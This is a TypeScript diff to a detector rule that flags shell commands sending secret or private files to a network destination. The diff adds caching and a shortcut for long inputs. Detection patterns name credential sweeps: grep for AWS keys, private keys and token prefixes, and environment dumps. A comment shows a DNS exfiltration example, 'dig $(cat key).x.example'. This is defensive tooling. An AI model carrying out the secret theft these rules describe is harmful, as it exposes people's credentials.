@@ -45,31 +45,47 @@ export const sendSecret: Rule = {
 function checkSend(invocation: Invocation, world: World, analysis: Analysis): Hit | undefined {
   const sink = networkSink(invocation);
   if (sink === undefined) return undefined;
-  const stop = (arg: Arg): boolean => isSensitive(arg, invocation, world, true);
+  const stop = (arg: Arg): boolean => isSensitive(arg, invocation, true, world, analysis);
   if (sink.paths.some(stop)) return hit(invocation);
   if (sink.stdin && invocation.stdin.kind === "file" && stop(invocation.stdin.path))
     return hit(invocation);
+  if (analysis.invocations.length > SHORT_ENOUGH && !anyReadsSecret(analysis, world))
+    return undefined;
   const flows = feeders(invocation, analysis, {
     stdin: sink.stdin,
     args: [...sink.paths, ...sink.words],
     files: true,
   });
-  return flows.some((source) => readsSecret(source, world)) ? hit(invocation) : undefined;
+  return flows.some((source) => readsSecret(source, world, analysis)) ? hit(invocation) : undefined;
+}
+
+/** Commands in a text up to which each sender's sources are searched without asking about all. */
+const SHORT_ENOUGH = 64;
+
+const ANY = new WeakMap<Analysis, boolean>();
+
+/** False when nothing in a long text could be a source: then no way to a sender needs a search. */
+function anyReadsSecret(analysis: Analysis, world: World): boolean {
+  const known = ANY.get(analysis);
+  if (known !== undefined) return known;
+  const found = analysis.invocations.some((one) => readsSecret(one, world, analysis));
+  ANY.set(analysis, found);
+  return found;
 }
 
 /** Many commands may be fed by the same one. */
 const READERS = new WeakMap<Invocation, boolean>();
 
 /** True when the command's output carries secret or private data. */
-function readsSecret(invocation: Invocation, world: World): boolean {
+function readsSecret(invocation: Invocation, world: World, analysis: Analysis): boolean {
   const known = READERS.get(invocation);
   if (known !== undefined) return known;
-  const reads = showsSecret(invocation, world);
+  const reads = showsSecret(invocation, world, analysis);
   READERS.set(invocation, reads);
   return reads;
 }
 
-function showsSecret(invocation: Invocation, world: World): boolean {
+function showsSecret(invocation: Invocation, world: World, analysis: Analysis): boolean {
   const { program, args, stdin } = invocation;
   const words = args.map((arg) => arg.value);
   if (program === "env" || program === "printenv" || program === "set" || program === "export") {
@@ -93,13 +109,13 @@ function showsSecret(invocation: Invocation, world: World): boolean {
     : args;
   if (words.includes("--no-recursion")) return false;
   const searches = operands !== args;
-  if (operands.some((arg) => isSensitive(arg, invocation, world, !searches))) return true;
+  if (operands.some((arg) => isSensitive(arg, invocation, !searches, world, analysis))) return true;
   if (program === "tar" && words.some((word) => /^(?:-T|--files-from)/.test(word))) return true;
   const searchesSecrets =
     /^[ef]?grep$/.test(program) &&
     /AKIA|BEGIN [A-Z ]*PRIVATE KEY|ghp_|sk-|xox[bp]-/.test(words.join(" "));
   if (searchesSecrets && words.some((word) => /^-[a-zA-Z]*[rR]/.test(word))) return true;
-  return stdin.kind === "file" && isSensitive(stdin.path, invocation, world, true);
+  return stdin.kind === "file" && isSensitive(stdin.path, invocation, true, world, analysis);
 }
 
 const PRINTS_SECRET: readonly RegExp[] = [
@@ -118,15 +134,27 @@ const PRINTS_SECRET: readonly RegExp[] = [
 function isSensitive(
   arg: Arg,
   invocation: Invocation,
-  world: World,
   alsoPrivate: boolean,
+  world: World,
+  analysis: Analysis,
 ): boolean {
   const text = arg.value.replace(/^[\w-]*=@?|^@/, "").replace(/^if=/, "");
   if (text === "" || text.startsWith("-") || /^[a-z]+:\/\//i.test(text)) return false;
   if (text.includes(" ") || text === UNKNOWN) return false;
-  if (alsoPrivate && isPrivatePath(absolutePath(text, invocation.cwd))) return true;
-  return isSecretPath(text, world, invocation.cwd);
+  const known = SENSITIVE.get(analysis) ?? new Map<string, boolean>();
+  SENSITIVE.set(analysis, known);
+  const key = `${alsoPrivate} ${invocation.cwd}\n${text}`;
+  const before = known.get(key);
+  if (before !== undefined) return before;
+  const is =
+    (alsoPrivate && isPrivatePath(absolutePath(text, invocation.cwd))) ||
+    isSecretPath(text, world, invocation.cwd);
+  known.set(key, is);
+  return is;
 }
+
+/** The commands of a long text name the same paths again and again. */
+const SENSITIVE = new WeakMap<Analysis, Map<string, boolean>>();
 
 /** Secrets whose only way out is a name: `dig $(cat key).x.example`. */
 export const credentialSweep: Rule = {
